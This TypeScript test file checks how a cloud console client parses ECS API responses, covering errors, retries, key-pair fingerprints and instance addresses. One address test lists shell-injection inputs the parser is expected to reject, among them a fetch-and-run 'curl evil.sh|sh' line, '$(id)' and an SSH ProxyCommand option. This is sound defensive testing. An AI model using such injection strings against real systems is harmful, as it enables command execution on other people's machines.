import { beforeEach, describe, expect, it, vi } from 'vitest';
import { ApiError } from './api-error';
import { isWorthAnotherTry } from './query-client';
import { random } from './testing/random';
import {
  addressesReadFrom,
  claimsIn,
  fingerprintReadFrom,
  randomVariant,
  readDifferent,
  readInstead,
  readWith,
  titleOf,
} from './testing/read-responses';
import {
  harmless,
  mismatches,
  notResponses,
  unreadableRows,
  type Difference,
} from './testing/response-variants';

beforeEach(() => void vi.stubGlobal('document', { baseURI: 'https://console.test/' }));

async function errorOf(reading: Promise<unknown>): Promise<ApiError> {
  const result: unknown = await reading.catch((error: unknown) => error);
  if (!(result instanceof ApiError)) throw new Error(`Accepted: ${JSON.stringify(result)}`);
  return result;
}

const titled = (differences: readonly Difference[]) =>
  differences.map((each) => [titleOf(each), each] as const);

describe('a response that does not match', () => {
  it.each(titled(mismatches))('%s is an error with a message', async (_title, mismatch) => {
    const error = await errorOf(readDifferent(mismatch));
    expect(error.kind).toBe('bad-response');
    expect(error.isUnclear).toBe(true);
    expect(error.message).toMatch(/\bECS [a-zA-Z’ ]+\.$/);
  });

  it.each(titled(mismatches))('%s is not requested again', async (_title, mismatch) => {
    expect(isWorthAnotherTry(await errorOf(readDifferent(mismatch)))).toBe(false);
  });
});

describe('a row that cannot be read', () => {
  it.each(titled(unreadableRows))('%s is left out and counted', async (_title, difference) => {
    const [action] = difference;
    const all = claimsIn(await readWith(action, []));
    const left = claimsIn(await readDifferent(difference));
    expect(left).toContain('unreadable: 1');
    for (const claim of left) expect([...all, 'unreadable: 1']).toContain(claim);
  });
});

describe('a response in a form that changes nothing', () => {
  it.each(titled(harmless))('%s is read', async (_title, difference) => {
    await expect(readDifferent(difference)).resolves.toHaveProperty('RequestId');
  });

  it('claims the same with any of the differences at once', async () => {
    const next = random(10);
    for (let variant = 0; variant < 500; variant += 1) {
      const [action, differences] = randomVariant(next);
      const claims = claimsIn(await readWith(action, differences));
      const documented = claimsIn(await readWith(action, []));
      const title = differences.map(titleOf).join();
      // A response to a write may omit what the request contains.
      if (action === 'AttachKeyPair')
        expect(documented, title).toEqual(expect.arrayContaining(claims));
      else expect(claims, title).toEqual(documented);
    }
  });
});

describe('the fingerprint of a listed key pair', () => {
  const md5 = 'c284b4f9772bfe8d4cf7d7f1781a1ef0';

  it('is an MD5 in hex, with or without colons', async () => {
    expect(await fingerprintReadFrom(md5)).toBe(md5);
    const colons = md5.toUpperCase().match(/../g)?.join(':') ?? '';
    expect(await fingerprintReadFrom(colons)).toBe(md5);
  });

  it.each(['', 'SHA256:AAAA', md5.slice(1), `${md5}00`, md5.replace('c', 'g')])(
    'is not known where ECS lists “%s”',
    async (listed) => {
      expect(await fingerprintReadFrom(listed)).toBe('');
    },
  );
});

describe('the addresses of a listed instance', () => {
  it.each(['203.0.113.7', '2001:db8::7', '::ffff:203.0.113.7'])('are %s', async (listed) => {
    expect(await addressesReadFrom(listed)).toEqual([listed, listed, listed, listed]);
  });

  it.each(['1.2.3.4; curl evil.sh|sh', '$(id)', '-oProxyCommand=id', '1.2.3', '1.2.3.4\n', 'a.b'])(
    'are left out where ECS lists “%s”',
    async (listed) => {
      expect(await addressesReadFrom(listed)).toEqual(['']);
    },
  );
});

describe('something instead of a response', () => {
  it.each(notResponses)('%s is an error with a message', async (_what, body, status) => {
    const error = await errorOf(readInstead(body, status));
    expect(error).toMatchObject({ kind: 'bad-response', status });
    expect(error.message).toBe('The response isn’t from the ECS API.');
  });

  it('is requested again where it may be something that stands in between', async () => {
    const isWorthIt = async (body: string, status: number) =>
      isWorthAnotherTry(await errorOf(readInstead(body, status)));
    expect(await isWorthIt('<h1>502 Bad Gateway</h1>', 502)).toBe(true);
    expect(await isWorthIt('{"RequestId":"R","KeyPairs":{"Key', 200)).toBe(true);
    expect(await isWorthIt('{"RequestId":"R"}', 200)).toBe(false);
  });
});
